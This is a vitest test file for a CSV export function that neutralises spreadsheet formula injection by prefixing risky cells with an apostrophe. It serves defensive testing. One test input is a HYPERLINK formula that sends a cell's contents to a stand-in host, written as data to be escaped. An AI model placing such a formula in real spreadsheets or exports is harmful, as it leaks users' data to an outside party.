import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { formulaSafeCsv } from '../../src/domain/export/csv.ts';

describe('formulaSafeCsv', () => {
  it('neutralises spreadsheet formulas in every cell', () => {
    const csv = formulaSafeCsv(['unit', 'caseworker'], [['=HYPERLINK("x")', '+1'], ['@SUM(A1)', '-2'], ['Nørrebro', 'ÆØ']], { bom: false });
    const back = Papa.parse<string[]>(csv).data;
    expect(back).toEqual([['unit', 'caseworker'], ["'=HYPERLINK(\"x\")", "'+1"], ["'@SUM(A1)", "'-2"], ['Nørrebro', 'ÆØ']]);
  });

  it('neutralises a formula whatever follows its first character, line breaks included', () => {
    const hostile = ['=HYPERLINK("https://x.example/?d="&A1,"x")\nmore', '+1\r\n2', '-2\n', '@SUM(A1)\rB', '\t=1\n2', '\r=1'];
    for (const delimiter of [',', ';'] as const) {
      const back = Papa.parse<string[]>(formulaSafeCsv(['v'], hostile.map((v) => [v]), { delimiter, bom: false }), { delimiter }).data.slice(1);
      expect(back).toEqual(hostile.map((v) => [`'${v}`]));
    }
  });

  it('writes every text cell back as it was, with an apostrophe before exactly those that start like a formula', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', ' ', 'a', '1', 'æ') });
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const back = Papa.parse<string[]>(formulaSafeCsv(['a', 'b'], rows, { delimiter: ';', bom: false }), { delimiter: ';' }).data.slice(1);
        expect(back).toEqual(rows.map((r) => r.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v))));
      }),
      { numRuns: 500 },
    );
  });

  it('leaves numbers alone, negative ones included', () => {
    expect(formulaSafeCsv(['change'], [[-20], [1.5]], { bom: false })).toBe('change\r\n-20\r\n1.5');
  });

  it('writes Danish Excel CSV: semicolons, CRLF and a byte-order mark', () => {
    expect(formulaSafeCsv(['a', 'b'], [[1, null]], { delimiter: ';' })).toBe('\ufeffa;b\r\n1;');
  });

  it('quotes delimiters and line breaks inside values', () => {
    expect(formulaSafeCsv(['a'], [['x;y\nz']], { delimiter: ';', bom: false })).toBe('a\r\n"x;y\nz"');
  });
});
